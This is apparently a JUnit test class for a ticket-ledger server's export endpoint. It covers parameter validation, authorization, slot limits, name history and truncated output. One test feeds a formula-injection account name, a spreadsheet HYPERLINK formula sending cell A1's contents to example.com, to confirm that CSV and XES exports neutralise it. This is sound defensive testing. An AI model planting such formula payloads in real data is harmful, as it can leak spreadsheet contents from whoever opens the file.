package io.ticketledger.server.export;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.ticketledger.command.account.AccountCommand.ChangeAccount;
import io.ticketledger.command.account.AccountCommand.OpenAccount;
import io.ticketledger.command.ticket.TicketCommand.OpenTicket;
import io.ticketledger.events.AccountId;
import io.ticketledger.events.Priority;
import io.ticketledger.events.Role;
import io.ticketledger.events.TicketId;
import io.ticketledger.eventstore.CanonicalJson;
import io.ticketledger.practice.Practice;
import io.ticketledger.query.directory.Directory;
import io.ticketledger.server.desk.Desk;
import io.ticketledger.server.desk.Ids;
import io.ticketledger.server.desk.Numbers;
import io.ticketledger.server.desk.Occasion;
import io.ticketledger.server.security.Caller;
import io.ticketledger.server.testing.Client;
import io.ticketledger.server.testing.Client.Answer;
import io.ticketledger.server.testing.RunningDesk;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.time.Instant;
import java.util.List;
import java.util.Set;
import java.util.UUID;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.DisplayNameGeneration;
import org.junit.jupiter.api.DisplayNameGenerator.ReplaceUnderscores;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.jdbc.core.simple.JdbcClient;
import tools.jackson.databind.JsonNode;

/** Who is let in, what is refused, and what happens when it goes wrong in the middle. */
@DisplayNameGeneration(ReplaceUnderscores.class)
class ExportDoorTest {

    private static final String ODD = "=HYPERLINK(\"http://example.com/?\"&A1)\r\n, \"x\"";

    private final Exported exported = Exported.from(RunningDesk.shared());

    @ParameterizedTest
    @ValueSource(strings = {"format=pdf", "format=CSV", "format=csv&format=xes", "from=0", "from=-1", "from=1.5", "from=yesterday", "from=2026-02-30", "from=99999999999999999999",
            "from=2&to=1", "from=999999999", "to=999999999", "from=2026-02-02&to=2026-02-01", "tickets=x", "tickets=1-1-1-1-1", "tickets=%00", "proof=yes",
            "proof=true&format=csv", "from=%2B1000000000-01-01T00:00:00Z"})
    void what_makes_no_sense_is_refused(String query) {
        problem(exported.answer("?" + query), 400);
    }

    @Test
    void what_is_left_blank_is_not_asked_for() {
        assertThat(exported.answer("?format=&from=&to=2&tickets=&proof=").must(200).text().lines()).hasSize(2);
    }

    @Test
    void everything_that_is_wrong_is_said_at_once() {
        assertThat(problem(exported.answer("?format=pdf&from=0&to=x&tickets=y&proof=z"), 400)).contains("format", "from", "to", "\"y\"", "proof");
        String many = IntStream.rangeClosed(1, Wanted.MOST_TICKETS + 1).mapToObj(Integer::toString).collect(Collectors.joining(","));
        assertThat(problem(exported.answer("?tickets=" + many), 400)).contains("1000");
    }

    @Test
    void a_ticket_that_is_not_there_is_named() {
        TicketId there = ticket(Practice.person(exported.desk(), "pat-Passw0rd", Role.REQUESTER).id());
        String nobody = UUID.randomUUID().toString();
        String account = exported.desk().part(Directory.class).byUsername("admin").orElseThrow().id().toString();
        String detail = problem(exported.answer("?tickets=" + there + "," + nobody + ",999999999," + account), 404);
        assertThat(detail).contains(nobody, "999999999", account).doesNotContain(there.toString());
    }

    @Test
    void whoever_may_not_read_the_ledger_gets_nothing() {
        problem(Client.stranger(exported.desk().url()).get("/ledger/export"), 401);
    }

    @Test
    void there_are_so_many_at_once_and_the_next_may_come_again() {
        ExportSlots slots = exported.desk().part(ExportSlots.class);
        int taken = 0;
        try {
            while (slots.take()) taken++;
            Answer busy = exported.answer("?to=1");
            problem(busy, 503);
            assertThat(busy.raw().headers().firstValue("Retry-After")).isPresent();
        } finally {
            for (int i = 0; i < taken; i++) slots.giveBack();
        }
        assertThat(taken).isEqualTo(ExportSlots.PER_NODE);
        exported.answer("?to=1").must(200);
        exported.answer("?format=nonsense");
        exported.answer("?tickets=999999999");
        assertThat(slots.free()).as("given back after refusals, too").isEqualTo(ExportSlots.PER_NODE);
    }

    @Test
    void head_says_what_there_would_be() {
        Answer answer = exported.auditor().send("HEAD", "/ledger/export?to=7&format=xes", new byte[0], "text/plain").must(200);
        assertThat(answer.raw().headers().firstValue("Ledger-Range")).hasValue("1-7");
        assertThat(answer.raw().body()).isEmpty();
    }

    @Test
    void a_name_that_is_a_formula_is_harmless_in_a_spreadsheet_and_exact_elsewhere() {
        AccountId odd = account(ODD, "Odd");
        TicketId ticket = ticket(odd);
        String csv = exported.answer("?format=csv&tickets=" + ticket).must(200).text();
        assertThat(csv).contains(",\"'" + (ODD + " Odd").replace("\"", "\"\"") + "\",");
        String xes = exported.answer("?format=xes&tickets=" + ticket).must(200).text();
        assertThat(xes).contains("value=\"=HYPERLINK(&quot;http://example.com/?&quot;&amp;A1)&#13;&#10;, &quot;x&quot; Odd\"");
        JsonNode ocel = CanonicalJson.parse(exported.answer("?format=ocel&tickets=" + ticket).must(200).text());
        assertThat(person(ocel, odd)).containsExactly(ODD + " Odd");
    }

    @Test
    void people_have_the_names_they_had_up_to_the_end_of_the_range() {
        AccountId person = account("Jane", "Early");
        TicketId ticket = ticket(person);
        long then = exported.log().head();
        Practice.ask(exported.desk(), new ChangeAccount(person, null, null, "Jane", "Late", null, null, null, null, null, null));
        long now = exported.log().head();
        assertThat(person(ocel(ticket, then), person)).containsExactly("Jane Early");
        assertThat(person(ocel(ticket, now), person)).containsExactly("Jane Early", "Jane Late");
    }

    @Test
    void a_ticket_longer_than_a_page_is_whole_and_a_file_that_breaks_off_ends_with_a_broken_connection() {
        try (RunningDesk desk = RunningDesk.fresh()) {
            Exported broken = Exported.from(desk);
            TicketId ticket = ticket(desk, Practice.person(desk, "pat-Passw0rd", Role.REQUESTER).id());
            JdbcClient sql = JdbcClient.create(desk.database().dataSource());
            long version = broken.log().readStream(ticket.toString(), 0).size();
            insert(sql, ticket, version, 1_200, "comment-added");
            long good = broken.log().head();
            assertThat(count(broken.answer("?format=xes&to=" + good).must(200).text(), "<event>")).isEqualTo(version + 1_200);
            assertThat(count(broken.answer("?format=ocel&to=" + good).must(200).text(), "\"id\":\"event:")).isEqualTo(good);
            assertThat(count(broken.answer("?format=csv&tickets=1&to=" + good).must(200).text(), "\r\n")).isEqualTo(version + 1_201);

            insert(sql, ticket, version + 1_200, 1, "from-the-future");
            assertThat(broken.answer("?format=ndjson").must(200).text().lines()).as("which need not be understood").hasSize((int) good + 1);
            for (String format : List.of("csv", "ocel")) {
                assertThatThrownBy(() -> broken.answer("?format=" + format)).as(format).isInstanceOf(UncheckedIOException.class).hasCauseInstanceOf(IOException.class);
            }
            // A trace begins with what its last event makes of the ticket, so here nothing was written yet.
            problem(broken.answer("?format=xes"), 500);
            problem(broken.answer("?format=csv&from=" + (good + 1)), 500);
            assertThat(desk.part(ExportSlots.class).free()).isEqualTo(ExportSlots.PER_NODE);
        }
    }

    private static void insert(JdbcClient sql, TicketId ticket, long version, int events, String name) {
        sql.sql("""
                insert into event_log select (select max(position) from event_log) + n, :ticket, 'ticket', :version + n - 1, gen_random_uuid(), :name, 1, now(), clock_timestamp(),
                  jsonb_build_object('ticket', :ticket, 'comment', gen_random_uuid(), 'number', n, 'text', repeat('text ', 60), 'visibility', 'public'), '{"actor":"system"}'
                from generate_series(1, :events) n""").param("ticket", ticket.toString()).param("version", version).param("name", name).param("events", events).update();
    }

    private static long count(String text, String part) {
        return text.split(part, -1).length - 1L;
    }

    private JsonNode ocel(TicketId ticket, long to) {
        return CanonicalJson.parse(exported.answer("?format=ocel&to=" + to + "&tickets=" + ticket).must(200).text());
    }

    private static List<String> person(JsonNode ocel, AccountId person) {
        JsonNode object = ocel.get("objects").valueStream().filter(each -> each.get("id").stringValue().equals("person:" + person)).findFirst().orElseThrow();
        return object.get("attributes").valueStream().filter(attribute -> attribute.get("name").stringValue().equals("name")).map(attribute -> attribute.get("value").stringValue()).toList();
    }

    private AccountId account(String first, String last) {
        AccountId id = Ids.account();
        Practice.ask(exported.desk(), new OpenAccount(id, exported.desk().part(Numbers.class).next(Numbers.Kind.ACCOUNT), "u" + id.toString().replace("-", ""), null, first, last,
                Set.of(Role.REQUESTER), null, null, null, null));
        return id;
    }

    private TicketId ticket(AccountId requester) {
        return ticket(exported.desk(), requester);
    }

    private static TicketId ticket(RunningDesk desk, AccountId requester) {
        TicketId id = Ids.ticket();
        Caller caller = Caller.of(desk.part(Directory.class).byId(requester).orElseThrow());
        desk.part(Desk.class).ask(new OpenTicket(id, desk.part(Numbers.class).next(Numbers.Kind.TICKET), requester, "=1+1", "d", Priority.LOW, null, null, "bug", null, null, "p", null),
                new Occasion(caller.actor(), "desk", null, null, Instant.now(), null, null));
        return id;
    }

    private static String problem(Answer answer, int status) {
        answer.must(status);
        assertThat(answer.raw().headers().firstValue("Content-Type").orElse("")).contains("application/problem+json");
        return answer.at("detail").stringValue();
    }
}
